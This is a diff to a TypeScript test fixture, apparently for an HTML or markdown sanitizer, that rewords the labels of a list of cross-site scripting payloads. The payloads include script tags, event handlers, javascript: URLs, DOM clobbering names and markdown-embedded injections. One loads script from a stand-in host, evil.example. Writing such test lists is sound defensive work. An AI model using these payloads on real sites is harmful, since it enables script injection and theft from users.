@@ -1,10 +1,10 @@
-/** One of each family of ways to smuggle script into a page. For tests. */
+/** For tests: one example of each technique to inject scripts into a page. */
 export const hostilePayloads: Record<string, string> = {
   "a script": "<script>alert(1)</script>",
   "a script in odd case": "<ScRiPt/x>alert(1)</sCrIpT >",
   "a script never closed": "Text <script>alert(1)",
   "a script within a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
-  "a script from elsewhere": '<script src="//evil.example/x.js"></script>',
+  "a script from another host": '<script src="//evil.example/x.js"></script>',
   "a script after a broken comment": "<!--><script>alert(1)</script>-->",
   "a script in a comment that ends early": "<!-- --!><script>alert(1)</script> -->",
   "a script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
@@ -47,7 +47,7 @@ export const hostilePayloads: Record<string, string> = {
   "a stylesheet": '<link rel="stylesheet" href="//evil.example/x.css"><style>*{color:red}</style>',
   "an inline style": '<p style="background:url(javascript:alert(1))">x</p>',
   "a form": '<form action="javascript:alert(1)"><button>x</button><input type=submit></form>',
-  "a button of somebody's form": "<button form=f formaction=javascript:alert(1)>x</button>",
+  "a button of another form": "<button form=f formaction=javascript:alert(1)>x</button>",
   "a field for passwords": '<input type="password" name="p" autofocus onfocus=alert(1)>',
   "a vector drawing": "<svg onload=alert(1)><script>alert(1)</script></svg>",
   "an animated vector link": "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
@@ -63,10 +63,11 @@ export const hostilePayloads: Record<string, string> = {
   "a title that ends early": "<title></title><img src=x onerror=alert(1)></title>",
   "a text area": "<textarea></textarea><script>alert(1)</script></textarea>",
   "a choice": "<select><style></select><img src=x onerror=alert(1)></style>",
-  "a name the page uses":
+  "a name that the page uses":
     '<img name="body"><a id="main" name="cookie">x</a><p id="__proto__">y</p>',
   "microdata and popovers": '<div itemscope itemtype="x" popover="auto" is="x-y">x</div>',
-  "a table that throws things out": "<table><script>alert(1)</script><img src=x onerror=alert(1)>",
+  "a table with content that the parser moves out":
+    "<table><script>alert(1)</script><img src=x onerror=alert(1)>",
   "a footnote": "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))",
   "a table cell": "| a |\n|---|\n| <img src=x onerror=alert(1)> [y](javascript:alert(1)) |",
   "a task": "- [ ] <img src=x onerror=alert(1)> [y](javascript:alert(1))",
